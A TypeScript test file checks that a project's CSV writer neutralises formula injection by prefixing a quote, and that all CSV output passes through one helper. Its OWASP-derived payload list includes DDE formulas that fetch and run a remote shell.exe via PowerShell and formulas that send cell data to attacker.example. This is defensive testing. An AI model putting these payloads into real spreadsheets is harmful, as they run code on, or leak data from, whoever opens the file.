/**
 * Formula neutralisation of every CSV the project writes, against the
 * payloads of OWASP's CSV Injection page (and their variants behind leading
 * whitespace, tab and carriage return), while phone numbers and plain
 * numbers stay exactly as they are.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine, safeCell } from '../src/results/csv-safe.js';
import { REPO_ROOT } from './helpers/dialer.js';

// https://owasp.org/www-community/attacks/CSV_Injection, plus the usual variants of its trigger characters.
const OWASP_PAYLOADS = [
  '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=1+2',
  '=WEBSERVICE("http://attacker.example/?"&A1)',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '+1+1',
  '-1+1',
  '@A1',
  '\t=1+2',
  '\r=1+2',
  '\tanything',
  '\ranything',
  ' =1+2',
  '   @SUM(A1:A9)',
  '\u00a0=1+2',
  ' +cmd|\' /C calc\'!A0',
  '=',
  '+',
  '-',
  '@',
  '+61 412 345 678',
  '-12.5 dollars',
  '+1 (212) 555-0100',
];

const UNCHANGED = [
  '+61412345678', '+12125550100', '61412345678', '-12.5', '+1', '-0.5', '12.', '.5', '1e5', '-3E-2', '0',
  'Ann', "O'Brien", 'a=b', 'x+y', 'mail@example.com', 'Zoë', '', '0412 345 678', '(02) 9123 4567', 'a\tb',
];

describe('safeCell', () => {
  it.each(OWASP_PAYLOADS.map((p) => [JSON.stringify(p), p]))('neutralises %s with a leading quote', (_, payload) => {
    expect(safeCell(payload)).toBe(`'${payload}`);
  });

  it.each(UNCHANGED.map((v) => [JSON.stringify(v), v]))('keeps %s as it is', (_, value) => {
    expect(safeCell(value)).toBe(value);
  });

  it('writes numbers and empty cells as they are', () => {
    expect(safeCell(-5)).toBe('-5');
    expect(safeCell(3.25)).toBe('3.25');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
  });
});

describe('csvLine', () => {
  it('round-trips through a CSV parser as one cell per value, every payload starting with a quote', () => {
    const line = csvLine(OWASP_PAYLOADS);
    const [cells] = parseCsv(line, { relax_quotes: false });
    expect(cells).toHaveLength(OWASP_PAYLOADS.length);
    cells!.forEach((cell, i) => expect(cell).toBe(`'${OWASP_PAYLOADS[i]}`));
  });

  it('a separator or quote inside a cell cannot start a new formula cell', () => {
    const [cells] = parseCsv(csvLine(['a,=1+2', 'b";=1+2', '+61412345678']));
    expect(cells).toEqual(['a,=1+2', 'b";=1+2', '+61412345678']);
  });
});

describe('one writer', () => {
  it('no source file but csv-safe.ts imports csv-stringify: every CSV written goes through safeCell', () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const p = path.join(dir, name);
        if (statSync(p).isDirectory()) walk(p);
        else if (p.endsWith('.ts') && !p.endsWith(path.join('results', 'csv-safe.ts')) && /from 'csv-stringify/.test(readFileSync(p, 'utf8'))) offenders.push(path.relative(REPO_ROOT, p));
      }
    };
    walk(path.join(REPO_ROOT, 'src'));
    expect(offenders).toEqual([]);
  });
});
